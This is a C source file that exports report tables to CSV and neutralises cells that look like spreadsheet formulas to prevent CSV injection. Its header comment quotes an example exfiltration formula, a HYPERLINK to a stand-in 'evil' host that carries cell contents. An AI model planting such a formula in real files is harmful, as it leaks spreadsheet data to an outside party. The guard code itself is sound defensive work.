/* export_csv.c - see export_csv.h. The formula guard follows the usual
 * advice against CSV injection: a cell from mail such as
 * =HYPERLINK("http://evil/?"&A1) must reach the spreadsheet as text. */
#include "config.h"
#include "report/export_csv.h"

#include <string.h>

typedef struct {
    rf_export_sink_t sink;
    rf_csv_t w;
    gboolean raw;
    GString *guarded;
} csv_sink_t;

gboolean
rf_export_formula_like (const char *s)
{
    return s && *s && strchr ("=+-@\t\r", *s) != NULL;
}

static gboolean
csv_begin (rf_export_sink_t *s, const rf_export_table_t *t, GError **err)
{
    csv_sink_t *c = (csv_sink_t *) s;
    for (guint i = 0; i < t->n_cols; i++)
        rf_csv_field (&c->w, t->cols[i].name);
    rf_csv_end (&c->w);
    return TRUE;
}

static gboolean
csv_row (rf_export_sink_t *s, const rf_export_table_t *t, const rf_cell_t *cells, GError **err)
{
    csv_sink_t *c = (csv_sink_t *) s;
    for (guint i = 0; i < t->n_cols; i++) {
        const rf_cell_t *cell = &cells[i];
        if (cell->type == RF_CELL_NULL) {
            rf_csv_null (&c->w);
        } else if (!c->raw && !rf_col_is_numeric (t->cols[i].kind) && rf_export_formula_like (cell->text)) {
            g_string_assign (c->guarded, "'");
            g_string_append (c->guarded, cell->text);
            rf_csv_field (&c->w, c->guarded->str);
        } else {
            rf_csv_field (&c->w, cell->text);
        }
    }
    rf_csv_end (&c->w);
    return TRUE;
}

static gboolean
csv_end (rf_export_sink_t *s, const rf_export_table_t *t, GError **err)
{
    return TRUE;
}

gboolean
rf_export_csv (rf_store_t *st, const rf_export_table_t *t, const rf_export_ctx_t *ctx, FILE *out,
               rf_csv_format_t fmt, gboolean bom, gboolean raw, GError **err)
{
    csv_sink_t c = { { csv_begin, csv_row, csv_end }, { 0 }, raw, g_string_new (NULL) };
    gboolean ok;
    rf_csv_init (&c.w, out, fmt, bom);
    ok = rf_export_run (st, t, ctx, &c.sink, err);
    g_string_free (c.guarded, TRUE);
    return ok;
}
